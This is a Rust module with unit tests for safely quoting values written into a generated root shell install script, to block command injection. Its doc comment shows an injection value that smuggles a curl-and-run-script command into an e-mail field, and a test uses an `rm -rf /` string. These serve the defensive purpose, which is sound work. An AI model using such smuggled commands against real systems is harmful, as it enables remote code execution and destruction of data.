//! The one way a value enters a generated shell script.
//!
//! The free path's install script runs as root on a student's instance (through SSM Run Command,
//! or pasted by hand). A value written into it bare (`-m {email}`) lets whoever typed it run
//! commands there: `a@b.co;curl${IFS}x.sh|sh`. So every value that lands in a command line goes
//! through [`quote`], which makes it one shell word whatever it contains, and every value that
//! lands in a `#` comment goes through [`comment`], which keeps it on one line. The parsers in
//! front (e-mail, domain names) refuse shell characters as well; the quoting holds without them.
//!
//! Tested by handing the output to bash itself (`domain/tests/instance_https_injection.rs`).

/// `s` as exactly one shell word for bash and POSIX sh: inside single quotes nothing is special
/// (no `$`, backtick, `\`, glob or newline handling); a `'` itself is written `'\''` (close the
/// quotes, an escaped quote, open them again). A NUL cannot be in a shell word at all (bash drops
/// it); every value lockstep quotes comes from a parser that refuses control characters.
pub fn quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// `s` for the text of a `#` comment: a comment ends at the line break, so line breaks (and any
/// other control character) become `?` and the value cannot start a new command line.
pub fn comment(s: &str) -> String {
    s.chars().map(|c| if c.is_control() { '?' } else { c }).collect()
}

/// How a refused character is named in a field message, in English and Korean: `";"`, or
/// "a space" for the ones that cannot be seen.
pub(crate) fn named(c: char) -> (String, String) {
    match c {
        ' ' => ("a space".into(), "공백".into()),
        '\n' | '\r' => ("a line break".into(), "줄바꿈".into()),
        '\t' => ("a tab".into(), "탭 문자".into()),
        c if c.is_control() || c.is_whitespace() => {
            ("an invisible control character".into(), "보이지 않는 제어 문자".into())
        }
        c => (format!("\"{c}\""), format!("\"{c}\"")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quote_wraps_and_escapes_single_quotes() {
        assert_eq!(quote("kim@example.com"), "'kim@example.com'");
        assert_eq!(quote(""), "''");
        assert_eq!(quote("it's"), r"'it'\''s'");
        assert_eq!(quote("$(x)`y`;z"), "'$(x)`y`;z'");
    }

    #[test]
    fn comment_stays_on_one_line() {
        assert_eq!(comment("a\nrm -rf /\r"), "a?rm -rf /?");
        assert_eq!(comment("api.team.com"), "api.team.com");
    }
}
